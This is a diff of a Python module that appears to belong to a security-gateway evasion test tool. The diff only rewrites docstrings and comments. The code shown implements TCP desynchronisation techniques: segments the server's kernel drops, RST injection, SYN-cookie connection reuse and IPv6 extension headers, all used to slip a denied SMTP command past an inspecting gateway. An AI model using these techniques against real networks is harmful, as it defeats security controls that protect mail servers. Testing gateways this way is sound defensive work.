@@ -1,10 +1,10 @@
-"""Connection identity: the gateway takes two connections of a server's for one.
+"""Connection identity: the gateway takes two connections of a server for one.
 
-A segment that the gateway decides and the server drops leaves their numbers apart; a RST at the
-server's number then ends the connection there and not here. From the same port, with the same ISN, and
-with SYN cookies the same ISN of the server's, the next connection looks like the first one's repetition:
-what its server reads as commands was decided as text. Linux computes a cookie from addresses, ports and
-the minute, and adds the client's ISN (RFC 4987 3.6; net/ipv4/syncookies.c).
+A segment that the gateway decides and the server drops makes their sequence numbers differ; a RST at the server's
+number then ends the connection at the server but not at the gateway. From the same port, with the same ISN, and with
+SYN cookies the same ISN of the server, the next connection looks like a retransmission of the first: what its server
+reads as commands was decided as text. Linux computes a cookie from addresses, ports and the minute, and adds the
+client's ISN (RFC 4987 3.6; net/ipv4/syncookies.c).
 """
 
 from __future__ import annotations
@@ -22,23 +22,23 @@ __all__ = ["ALWAYS_REFUSED", "IDENTITY", "IPV6_REFUSED", "lines", "passed", "spe
 IDENTITY = Table("identity")
 technique = IDENTITY.technique
 
-#: Text that the gateway is to decide and the server to drop.
+#: Text in a segment that the gateway inspects and the server's kernel drops.
 APART = b"text that never was\r\n"
-#: Octets of one packet.
+#: Bytes of payload sent in one packet.
 SEGMENT = 1200
 MD5, AUTHENTICATION = (19, bytes(16)), (29, bytes(14))
 TLS_PROFILE = ("--profile", "asa-tls")
 TLS = Personality(starttls=True)
-#: Of the greeting, and of nothing else the server says.
+#: A word of the server's greeting that occurs in none of its other replies.
 SOFTWARE = b"ESMTP"
 
 Refused = Callable[[RawTcp, bytes], None]
 
 
 def lines(length: int) -> bytes:
-    """So many octets of an allowed command without its end; of several where one would be too long.
+    """So many bytes of an allowed command without its line end; several commands if one would be too long.
 
-    OpenSMTPD hangs up on who does not wait for a reply.
+    OpenSMTPD disconnects a client that does not wait for replies.
     """
     if length <= 400:
         return b"NOOP ".ljust(length, b"x")[:length]
@@ -46,7 +46,7 @@ def lines(length: int) -> bytes:
 
 
 def speak_again(attack: Attack, new: RawTcp, acknowledged: int, decided: int, command: bytes = EVIL) -> None:
-    """Over the places the gateway has decided already, and behind them a forbidden command."""
+    """Sends over the part of the stream that the gateway has decided already, and after it a denied command."""
     if not new.established:
         return
     attack.wait(0.03)
@@ -57,7 +57,7 @@ def speak_again(attack: Attack, new: RawTcp, acknowledged: int, decided: int, co
             if place % (16 * SEGMENT) == start % (16 * SEGMENT):
                 attack.wait(0.01)
     new.put(b"\r\n", decided)
-    attack.wait(0.03)  # some servers hang up on who does not wait
+    attack.wait(0.03)  # Some servers close the connection on a client that does not wait for a reply.
     new.put(command, decided + 2)
     attack.wait(0.05)
 
@@ -67,7 +67,7 @@ def denied(attack: Attack, line: bytes) -> bool:
 
 
 def carried(**fields: Any) -> Refused:
-    """Octets in a segment with these fields."""
+    """A function that sends bytes in a segment with these fields."""
 
     def send(connection: RawTcp, octets: bytes) -> None:
         connection.stray(octets, **fields)
@@ -76,7 +76,7 @@ def carried(**fields: Any) -> Refused:
 
 
 def behind(layers: Callable[[], Any]) -> Refused:
-    """Octets behind these IPv6 headers."""
+    """A function that sends bytes after these IPv6 headers."""
 
     def send(connection: RawTcp, octets: bytes) -> None:
         connection.stray(octets, extensions=layers())
@@ -91,7 +91,7 @@ def old_timestamp(connection: RawTcp, octets: bytes) -> None:
 
 
 def destination_options(*options: tuple[int, bytes]) -> Callable[[], Any]:
-    """A header with options of these types (RFC 8200 4.2 and 4.6)."""
+    """A function that makes a header with options of these types (RFC 8200 4.2 and 4.6)."""
 
     def layers() -> Any:
         from scapy.layers.inet6 import HBHOptUnknown, IPv6ExtHdrDestOpt
@@ -117,7 +117,7 @@ def late_hop_by_hop() -> Any:
     return IPv6ExtHdrDestOpt(options=pad) / IPv6ExtHdrHopByHop(options=pad)
 
 
-#: name -> (why the server drops it, how it is sent).
+#: Segments that a server's kernel always drops: name -> (why it drops them, function that sends them).
 ALWAYS_REFUSED: dict[str, tuple[str, Refused]] = {
     "md5": ("a signature (RFC 2385) nobody asked for", carried(options=[MD5])),
     "md5-twice": ("two signatures (RFC 2385)", carried(options=[MD5, MD5])),
@@ -163,7 +163,7 @@ def separated(send: Refused, octets: bytes = APART, **fields: Any) -> Callable[[
 
 
 def repeated(begin: Callable[[Attack], RawTcp], octets: bytes = APART, **fields: Any) -> Callable[[Attack], None]:
-    """A technique: apart, a RST at the server's number, and the same connection again."""
+    """A technique: the two get apart, a RST at the server's number, and the same connection again."""
 
     def run(attack: Attack) -> None:
         attack.press()
@@ -253,7 +253,7 @@ def again_unread(attack: Attack) -> None:
     old.put(b"Subject: x\r\n\r\n")
     attack.wait(0.05)
     for number in range(1000):
-        old.put(b"xxx")  # no line, which the next connection's server would answer
+        old.put(b"xxx")  # Data without a line end: the server must not answer it on the next connection.
         if number % 16 == 15:
             attack.wait(0.002)
     attack.wait(0.05)
@@ -308,7 +308,7 @@ def again_keywords(attack: Attack) -> None:
         attack.wait(0.05)
 
 
-# A bare ACK with a cookie: no SYN begins the connection.
+# Section: connections without a SYN: the client's first packet is a bare ACK with a SYN cookie.
 
 
 def after_rst(attack: Attack, place: int | None = None) -> RawTcp:
@@ -358,7 +358,7 @@ def no_syn_quit(attack: Attack) -> None:
     old.wait(lambda: old.peer_closed, 1.0)
     old.put(flags=FIN | ACK)
     attack.wait(0.02)
-    old.stray(flags=RST, at=old.here + 1)  # out of TIME-WAIT (RFC 1337)
+    old.stray(flags=RST, at=old.here + 1)  # A RST that ends the server's TIME-WAIT state early (RFC 1337).
     speak_again(attack, attack.without_syn(old), old.here, old.here)
 
 
@@ -386,11 +386,11 @@ def no_syn_forgotten(attack: Attack) -> None:
     new.put(EVIL)
 
 
-# The same for a flow that is not looked at any more.
+# Section: the same techniques on a flow that the gateway no longer inspects.
 
 
 def passed(attack: Attack) -> RawTcp:
-    """A connection in which the gateway follows nothing but numbers: TLS has begun."""
+    """A connection of which the gateway follows only the sequence numbers: TLS has begun."""
     connection = attack.session(b"EHLO")
     if not connection.say(b"STARTTLS\r\n", 4.0).startswith(b"220"):
         raise NotTried("no STARTTLS")
@@ -402,7 +402,7 @@ def passed(attack: Attack) -> RawTcp:
 
 
 def plain_dialogue(attack: Attack, new: RawTcp) -> None:
-    """What nobody may say or hear."""
+    """A dialogue that neither side may send through the gateway."""
     if not new.established:
         return
     attack.wait(0.03)
